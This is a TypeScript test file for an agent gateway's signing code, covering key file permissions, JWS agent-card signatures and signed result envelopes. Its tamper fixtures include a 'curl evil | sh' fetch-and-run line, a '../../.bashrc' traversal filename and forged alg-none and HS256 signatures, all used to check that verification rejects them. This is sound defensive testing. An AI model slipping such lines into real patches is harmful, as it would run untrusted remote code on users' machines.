import * as assert from 'node:assert/strict';
import { chmod, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import * as jose from 'jose';
import { verifyAgentCardSignature } from '@a2a-js/sdk';
import type { AgentCard } from '@a2a-js/sdk';
import { cardSigningPayload } from '../../../src/core/agentCard';
import { canonicalize } from '../../../src/core/jcs';
import type { ResultEnvelope, SigningKey } from '../../../src/node/signing';
import {
  artifactDigest,
  createCardSignature,
  ENVELOPE_TYP,
  generateSigningKey,
  loadOrCreateSigningKey,
  loadSigningKey,
  requestDigest,
  resultDigest,
  signAgentCard,
  signResultEnvelope,
  SigningError,
  toVerifiedKey,
  verifyAgentCard,
  verifyResultEnvelope,
  writeSigningKey,
} from '../../../src/node/signing';
import { v1Card } from '../cards/fixtures';
import { startCanary } from '../fetch/testServers';

const b64 = (o: unknown): string => jose.base64url.encode(JSON.stringify(o));

let dir: string;
let key: SigningKey;
let other: SigningKey;
before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'baton-signing-'));
  key = await generateSigningKey();
  other = await generateSigningKey();
});
after(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('signing keys', () => {
  it('creates the key once, 0600, and loads the same key again (JWK and PEM)', async () => {
    for (const format of ['jwk', 'pem'] as const) {
      const file = join(dir, `state-${format}`, 'gateway.key');
      const created = await loadOrCreateSigningKey(file, format);
      assert.equal((await stat(file)).mode & 0o777, 0o600);
      assert.equal((await stat(join(dir, `state-${format}`))).mode & 0o777, 0o700);
      const loaded = await loadOrCreateSigningKey(file, format);
      assert.equal(loaded.kid, created.kid);
      assert.deepEqual(loaded.publicJwk, created.publicJwk);
      assert.equal('d' in loaded.publicJwk, false, 'the public JWK has no private member');
      if (format === 'pem') assert.match(await readFile(file, 'utf8'), /BEGIN PRIVATE KEY/);
    }
  });

  it('never overwrites an existing key file, and refuses one that others can read', async () => {
    const file = join(dir, 'k2.key');
    await writeSigningKey(key, file);
    await assert.rejects(writeSigningKey(other, file), /EEXIST/);
    assert.equal((await loadSigningKey(file)).kid, key.kid);
    await chmod(file, 0o644);
    await assert.rejects(
      loadSigningKey(file),
      (e: unknown) => e instanceof SigningError && e.code === 'key-permissions' && /chmod 600/.test(e.message),
    );
    const junk = join(dir, 'junk.key');
    await writeFile(junk, '{"kty":"oct","k":"AAAA"}', { mode: 0o600 });
    await assert.rejects(loadSigningKey(junk), (e: unknown) => e instanceof SigningError && e.code === 'key-invalid');
  });
});

describe('agent card signatures', () => {
  it('signs per A2A §8.4 (detached payload, EdDSA, kid, typ JOSE) and verifies on first use, then with the pinned key', async () => {
    const signed = await signAgentCard(v1Card(), key);
    const sig = (signed.signatures as { protected: string; signature: string }[])[0];
    const header = jose.decodeProtectedHeader(sig);
    assert.equal(header.alg, 'EdDSA');
    assert.equal(header.typ, 'JOSE');
    assert.equal(header.kid, key.kid);
    assert.equal('payload' in sig, false, 'payload is detached');
    const first = await verifyAgentCard(signed);
    assert.equal(first.status, 'verified');
    assert.ok(first.status === 'verified' && first.firstUse && first.keys[0].thumbprint === key.kid);
    const pinned = await verifyAgentCard(signed, { pinnedKeys: [await toVerifiedKey(key.publicJwk)] });
    assert.ok(pinned.status === 'verified' && !pinned.firstUse);
  });

  it('covers the RFC 8785 form: whitespace and key order do not matter, any field change does', async () => {
    const signed = await signAgentCard(v1Card(), key);
    const reordered = JSON.parse(
      JSON.stringify(Object.fromEntries(Object.entries(signed).reverse()), null, 3),
    ) as Record<string, unknown>;
    assert.equal((await verifyAgentCard(reordered)).status, 'verified');
    for (const tamper of [
      (c: Record<string, unknown>) => (c.description = 'Formats code. Also reads your SSH keys.'),
      (c: Record<string, unknown>) =>
        ((c.supportedInterfaces as Record<string, unknown>[])[0].url = 'https://evil.example/a2a'),
      (c: Record<string, unknown>) => (c.iconUrl = ''),
    ]) {
      const c = structuredClone(signed);
      tamper(c);
      const r = await verifyAgentCard(c);
      assert.equal(r.status, 'invalid');
      assert.match(r.status === 'invalid' ? r.reason : '', /does not verify/);
    }
  });

  it('refuses alg none, HMAC keyed with the public key, and algorithms outside the allow-list', async () => {
    const card = v1Card();
    const none = {
      ...card,
      signatures: [{ protected: b64({ alg: 'none', typ: 'JOSE', kid: key.kid, jwk: key.publicJwk }), signature: '' }],
    };
    const r1 = await verifyAgentCard(none);
    assert.equal(r1.status, 'invalid');
    assert.match(r1.status === 'invalid' ? r1.reason : '', /alg "none" is not allowed/);

    // The classic confusion: HS256 with the public key's bytes as the secret.
    const secret = new TextEncoder().encode(JSON.stringify(key.publicJwk));
    const hs = await new jose.FlattenedSign(new TextEncoder().encode(cardSigningPayload(card)))
      .setProtectedHeader({ alg: 'HS256', typ: 'JOSE', kid: key.kid })
      .sign(secret);
    const r2 = await verifyAgentCard(
      { ...card, signatures: [{ protected: hs.protected, signature: hs.signature }] },
      { pinnedKeys: [await toVerifiedKey(key.publicJwk)] },
    );
    assert.match(r2.status === 'invalid' ? r2.reason : 'verified', /alg "HS256" is not allowed/);

    const es384 = await jose.generateKeyPair('ES384');
    const s3 = await new jose.FlattenedSign(new TextEncoder().encode(cardSigningPayload(card)))
      .setProtectedHeader({ alg: 'ES384', typ: 'JOSE', jwk: await jose.exportJWK(es384.publicKey) })
      .sign(es384.privateKey);
    const r3 = await verifyAgentCard({ ...card, signatures: [{ protected: s3.protected, signature: s3.signature }] });
    assert.match(r3.status === 'invalid' ? r3.reason : 'verified', /ES384/);
    // An alg claimed only in the unprotected header does not count.
    const r4 = await verifyAgentCard({
      ...card,
      signatures: [{ protected: b64({ typ: 'JOSE' }), header: { alg: 'EdDSA' }, signature: 'AAAA' }],
    });
    assert.equal(r4.status, 'invalid');
  });

  it('a signature made with createCardSignature on the object served verifies after the JSON round trip', async () => {
    // What the gateway does: sign the card object, then the SDK handler serves JSON.stringify(card).
    const card: Record<string, unknown> = {
      ...v1Card(),
      skills: [{ id: 's', name: 'S', description: undefined, tags: [] }],
      signatures: [],
    };
    card.signatures = [await createCardSignature(card, key)];
    const served = JSON.parse(JSON.stringify(card)) as Record<string, unknown>;
    assert.equal((await verifyAgentCard(served)).status, 'verified');
  });

  it('accepts ES256 (P-256) signatures', async () => {
    const card = v1Card();
    const es = await jose.generateKeyPair('ES256');
    const s = await new jose.FlattenedSign(new TextEncoder().encode(cardSigningPayload(card)))
      .setProtectedHeader({ alg: 'ES256', typ: 'JOSE', kid: 'p256', jwk: await jose.exportJWK(es.publicKey) })
      .sign(es.privateKey);
    assert.equal(
      (await verifyAgentCard({ ...card, signatures: [{ protected: s.protected, signature: s.signature }] })).status,
      'verified',
    );
  });

  it('with a pinned key: another key, an unsigned card, are invalid', async () => {
    const pinnedKeys = [await toVerifiedKey(key.publicJwk)];
    const byOther = await signAgentCard(v1Card(), other);
    const r = await verifyAgentCard(byOther, { pinnedKeys });
    assert.match(r.status === 'invalid' ? r.reason : 'verified', /not the key pinned/);
    const u = await verifyAgentCard(v1Card(), { pinnedKeys });
    assert.match(u.status === 'invalid' ? u.reason : 'x', /unsigned/);
    assert.deepEqual(await verifyAgentCard(v1Card()), { status: 'unsigned' });
  });

  it('never fetches jku, and refuses an embedded key with a private member', async () => {
    const canary = await startCanary();
    try {
      const signed = await signAgentCard(v1Card(), key, {
        embedKey: false,
        jku: `http://127.0.0.1:${canary.port}/jwks.json`,
      });
      const r = await verifyAgentCard(signed);
      assert.match(r.status === 'invalid' ? r.reason : 'verified', /never fetches/);
      assert.equal(canary.connections(), 0);
      // It does verify once the key is pinned out of band.
      assert.equal(
        (await verifyAgentCard(signed, { pinnedKeys: [await toVerifiedKey(key.publicJwk)] })).status,
        'verified',
      );
    } finally {
      await canary.close();
    }
    const priv = await jose.exportJWK(key.privateKey);
    const withD = {
      ...v1Card(),
      signatures: [{ protected: b64({ alg: 'EdDSA', typ: 'JOSE', jwk: priv }), signature: 'AAAA' }],
    };
    assert.match((await verifyAgentCard(withD)).status === 'invalid' ? 'ok' : 'verified', /ok/);
  });

  it('verifies with the SDK for a card without empty or default fields (cross-implementation check)', async () => {
    const card = {
      name: 'Plain',
      description: 'No empty fields',
      version: '1.0.0',
      supportedInterfaces: [{ url: 'https://a.example/a2a', protocolBinding: 'JSONRPC', protocolVersion: '1.0' }],
      capabilities: { streaming: true },
      defaultInputModes: ['text/plain'],
      defaultOutputModes: ['text/plain'],
      skills: [{ id: 's', name: 'S', description: 'd', tags: ['t'] }],
    };
    const signed = await signAgentCard(card, key);
    await verifyAgentCardSignature(async () => key.publicJwk as jose.JWK)(signed as unknown as AgentCard);
  });
});

describe('signed result envelope', () => {
  const patch = {
    artifactId: 'a1',
    name: 'changes.patch',
    parts: [{ text: 'diff --git a/x b/x\n+hello\n', mediaType: 'text/x-diff', filename: 'changes.patch' }],
  };
  const log = { artifactId: 'a2', name: 'log.txt', parts: [{ text: 'ran prettier' }] };
  const request = {
    tenant: 't',
    message: { messageId: 'm1', role: 'ROLE_USER', parts: [{ text: 'format src' }] },
    configuration: { acceptedOutputModes: ['text/x-diff'] },
  };
  const status = {
    state: 'TASK_STATE_COMPLETED',
    message: { messageId: 'm2', role: 'ROLE_AGENT', parts: [{ text: 'done' }] },
  };
  // The claims the gateway signs (src/gateway/localTaskRunner.ts): extra claims such as outcome are carried as they are.
  const envelope = (): ResultEnvelope => ({
    agent: 'formatter',
    outcome: 'completed',
    taskId: 't1',
    contextId: 'c1',
    state: 'TASK_STATE_COMPLETED',
    requestDigest: requestDigest(request),
    artifacts: [patch, log].map((a) => ({ artifactId: a.artifactId, name: a.name, digest: artifactDigest(a) })),
    resultDigest: resultDigest(status),
    executor: { id: 'formatter', kind: 'builtin' },
    capabilities: { write: false, shell: false, network: false },
    issuedAt: '2026-01-01T00:00:00.000Z',
  });

  it('is the compact JWS jose makes of the canonical claims, byte for byte, and jose verifies it', async () => {
    const claims = envelope();
    const jws = await signResultEnvelope(claims, key);
    const byJose = await new jose.CompactSign(new TextEncoder().encode(canonicalize(claims)))
      .setProtectedHeader({ alg: 'EdDSA', kid: key.kid, typ: ENVELOPE_TYP })
      .sign(key.privateKey);
    assert.equal(jws, byJose);
    const verified = await jose.compactVerify(jws, await jose.importJWK(key.publicJwk as jose.JWK, 'EdDSA'));
    assert.deepEqual(verified.protectedHeader, { alg: 'EdDSA', kid: key.kid, typ: ENVELOPE_TYP });
    assert.deepEqual(JSON.parse(new TextDecoder().decode(verified.payload)), claims);
  });

  it('verifies what was signed, and binds request, artifacts, result, executor and capabilities', async () => {
    const jws = await signResultEnvelope(envelope(), key);
    const r = await verifyResultEnvelope(jws, {
      keys: [await toVerifiedKey(key.publicJwk)],
      taskId: 't1',
      artifacts: [patch, log],
      requestDigest: requestDigest(request),
      state: 'TASK_STATE_COMPLETED',
      status,
    });
    assert.ok(r.ok, r.ok ? '' : r.message);
    assert.deepEqual(r.ok && r.envelope.capabilities, { write: false, shell: false, network: false });
    assert.equal(r.ok && r.envelope.executor?.id, 'formatter');
    assert.equal(r.ok && r.envelope.outcome, 'completed');
    // The request digest ignores the tenant (routing) and nothing else.
    assert.equal(requestDigest({ ...request, tenant: 'other' }), requestDigest(request));
    assert.notEqual(requestDigest({ ...request, configuration: {} }), requestDigest(request));
  });

  it('fails on a tampered artifact and names it', async () => {
    const jws = await signResultEnvelope(envelope(), key);
    const keys = [await toVerifiedKey(key.publicJwk)];
    const tampered = {
      ...patch,
      parts: [{ ...patch.parts[0], text: 'diff --git a/x b/x\n+hello\n+curl evil | sh\n' }],
    };
    const r = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts: [tampered, log] });
    assert.equal(r.ok, false);
    assert.ok(!r.ok && r.failure === 'artifact-mismatch' && r.artifactName === 'changes.patch');
    assert.match(!r.ok ? r.message : '', /"changes\.patch" does not match/);
    const missing = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts: [patch] });
    assert.ok(!missing.ok && missing.failure === 'artifact-missing' && missing.artifactName === 'log.txt');
    const extra = await verifyResultEnvelope(jws, {
      keys,
      taskId: 't1',
      artifacts: [patch, log, { artifactId: 'a3', name: 'extra.sh', parts: [] }],
    });
    assert.ok(!extra.ok && extra.failure === 'artifact-unsigned' && extra.artifactName === 'extra.sh');
    const otherRequest = { ...request, message: { ...request.message, parts: [{ text: 'delete src' }] } };
    const wrongReq = await verifyResultEnvelope(jws, {
      keys,
      taskId: 't1',
      artifacts: [patch, log],
      requestDigest: requestDigest(otherRequest),
    });
    assert.ok(!wrongReq.ok && wrongReq.failure === 'request-mismatch');
    const wrongState = await verifyResultEnvelope(jws, {
      keys,
      taskId: 't1',
      artifacts: [patch, log],
      state: 'TASK_STATE_FAILED',
    });
    assert.ok(!wrongState.ok && wrongState.failure === 'result-mismatch');
    // A changed filename or media type is a changed artifact too, not only its text.
    const renamed = { ...patch, parts: [{ ...patch.parts[0], filename: '../../.bashrc' }] };
    const r5 = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts: [renamed, log] });
    assert.ok(!r5.ok && r5.failure === 'artifact-mismatch' && r5.artifactId === 'a1');
    const wrongTask = await verifyResultEnvelope(jws, { keys, taskId: 't2', artifacts: [patch, log] });
    assert.ok(!wrongTask.ok && wrongTask.failure === 'task-mismatch');
  });

  it('refuses an artifact id twice, with other content or the same, received or signed', async () => {
    const keys = [await toVerifiedKey(key.publicJwk)];
    const jws = await signResultEnvelope(envelope(), key);
    const evil = { ...patch, parts: [{ ...patch.parts[0], text: 'diff --git a/x b/x\n+curl evil | sh\n' }] };
    const annotated = { ...patch, description: 'safe', metadata: { reviewed: true } };
    for (const [label, artifacts] of [
      ['other content after', [patch, log, evil]],
      ['other content before', [evil, patch, log]],
      ['identical', [patch, log, patch]],
      ['differing only outside the digest', [patch, annotated, log]],
    ] as const) {
      const r = await verifyResultEnvelope(jws, { keys, taskId: 't1', artifacts });
      assert.ok(!r.ok && r.failure === 'artifact-duplicate' && r.artifactId === 'a1', `${label}: ${JSON.stringify(r)}`);
      assert.match(!r.ok ? r.message : '', /"changes\.patch" more than once/);
    }
    const twice = await signResultEnvelope(
      { ...envelope(), artifacts: [...envelope().artifacts, envelope().artifacts[0]] },
      key,
    );
    const r = await verifyResultEnvelope(twice, { keys, taskId: 't1', artifacts: [patch, log] });
    assert.ok(!r.ok && r.failure === 'artifact-duplicate', JSON.stringify(r));
    const junk = await signResultEnvelope({ ...envelope(), artifacts: [{ artifactId: 'a1' }] }, key);
    const r2 = await verifyResultEnvelope(junk, { keys, taskId: 't1', artifacts: [patch] });
    assert.ok(!r2.ok && r2.failure === 'malformed', JSON.stringify(r2));
  });

  it('binds the context, and fails when a claim the caller checks is not signed', async () => {
    const keys = [await toVerifiedKey(key.publicJwk)];
    const full = {
      keys,
      taskId: 't1',
      artifacts: [patch, log],
      contextId: 'c1',
      requestDigest: requestDigest(request),
      state: 'TASK_STATE_COMPLETED',
      status,
    };
    const jws = await signResultEnvelope(envelope(), key);
    assert.ok((await verifyResultEnvelope(jws, full)).ok);
    const wrongContext = await verifyResultEnvelope(jws, { ...full, contextId: 'c2' });
    assert.ok(
      !wrongContext.ok && wrongContext.failure === 'task-mismatch' && /context c1, not c2/.test(wrongContext.message),
      JSON.stringify(wrongContext),
    );
    const without = (claim: string): ResultEnvelope =>
      Object.fromEntries(Object.entries(envelope()).filter(([k]) => k !== claim)) as ResultEnvelope;
    for (const [claim, failure] of [
      ['contextId', 'task-mismatch'],
      ['requestDigest', 'request-mismatch'],
      ['state', 'result-mismatch'],
      ['resultDigest', 'result-mismatch'],
    ] as const) {
      const r = await verifyResultEnvelope(await signResultEnvelope(without(claim), key), full);
      assert.ok(!r.ok && r.failure === failure, `${claim} left out: ${JSON.stringify(r)}`);
    }
    const nullRequest = await verifyResultEnvelope(
      await signResultEnvelope({ ...envelope(), requestDigest: null }, key),
      full,
    );
    assert.ok(
      !nullRequest.ok && nullRequest.failure === 'request-mismatch' && /no request digest/.test(nullRequest.message),
    );
    // The message may have gone out in one of several forms (streaming, or polling): one of them must be signed.
    const other = requestDigest({ ...request, configuration: { acceptedOutputModes: [] } });
    assert.ok((await verifyResultEnvelope(jws, { ...full, requestDigest: [other, requestDigest(request)] })).ok);
    const neither = await verifyResultEnvelope(jws, { ...full, requestDigest: [other] });
    assert.ok(!neither.ok && neither.failure === 'request-mismatch');
  });

  it('fails on a forged signature, an unpinned key, a changed payload, and alg none', async () => {
    const keys = [await toVerifiedKey(key.publicJwk)];
    const forged = await signResultEnvelope(envelope(), other);
    const r1 = await verifyResultEnvelope(forged, { keys, taskId: 't1', artifacts: [patch, log] });
    assert.ok(!r1.ok && r1.failure === 'unknown-key');
    const [h, , s] = (await signResultEnvelope(envelope(), key)).split('.');
    const swapped = `${h}.${jose.base64url.encode(JSON.stringify({ ...envelope(), capabilities: { write: true, shell: true, network: true } }))}.${s}`;
    const r2 = await verifyResultEnvelope(swapped, { keys, taskId: 't1', artifacts: [patch, log] });
    assert.ok(!r2.ok && r2.failure === 'bad-signature');
    const none = `${b64({ alg: 'none', kid: key.kid, typ: 'baton-result+jws' })}.${jose.base64url.encode(JSON.stringify(envelope()))}.`;
    const r3 = await verifyResultEnvelope(none, { keys, taskId: 't1', artifacts: [patch, log] });
    assert.ok(!r3.ok && r3.failure === 'alg-not-allowed');
    const r4 = await verifyResultEnvelope('garbage', { keys, taskId: 't1', artifacts: [] });
    assert.ok(!r4.ok && r4.failure === 'malformed');
  });
});
